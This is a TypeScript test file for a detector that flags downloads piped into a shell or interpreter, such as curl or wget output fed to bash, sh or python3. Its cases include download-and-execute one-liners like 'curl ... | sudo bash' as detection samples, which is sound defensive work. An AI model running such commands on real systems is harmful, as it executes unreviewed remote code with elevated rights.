import { testDetector } from '../detectors/case-table.ts';
import { executed, process } from '../detectors/sample-events.ts';
import { downloadToShell } from './download-to-shell.ts';

const bash = process('/usr/bin/bash');
const curl = process('/usr/bin/curl -fsSL https://example.org/x', bash);
const sh = process('/usr/bin/sh', bash);
const line = (text: string) => executed(process(['/bin/sh', '-c', text], bash));

testDetector(downloadToShell, [
  {
    why: 'in one line',
    event: line('curl -s https://example.org/x | sudo bash -s -- -y'),
    finds: 'download into bash',
  },
  { why: 'typed: the shell comes last', event: executed(sh), before: [curl], finds: 'download into sh' },
  { why: 'typed: the download comes last', event: executed(curl), before: [sh], finds: 'download into sh' },
  {
    why: 'into an interpreter',
    event: executed(process('/usr/bin/python3', bash)),
    before: [curl],
    finds: 'download into python3',
  },
  {
    why: 'into a file',
    event: executed(sh),
    before: [process('/usr/bin/curl -o x https://example.org/x', bash)],
    finds: undefined,
  },
  {
    why: 'a shell with a script',
    event: executed(process('/usr/bin/sh build.sh', bash)),
    before: [curl],
    finds: undefined,
  },
  {
    why: 'the download of somebody else',
    event: executed(process('/usr/bin/sh', '/usr/bin/tmux')),
    before: [curl],
    finds: undefined,
  },
  { why: 'into a program that is no shell', event: line('curl -s https://example.org/x | jq .'), finds: undefined },
  {
    why: 'wget keeps files',
    event: executed(sh),
    before: [process('/usr/bin/wget https://example.org/x', bash)],
    finds: undefined,
  },
  {
    why: 'unless it is told to print',
    event: executed(sh),
    before: [process('/usr/bin/wget -qO- https://example.org/x', bash)],
    finds: 'download into sh',
  },
]);
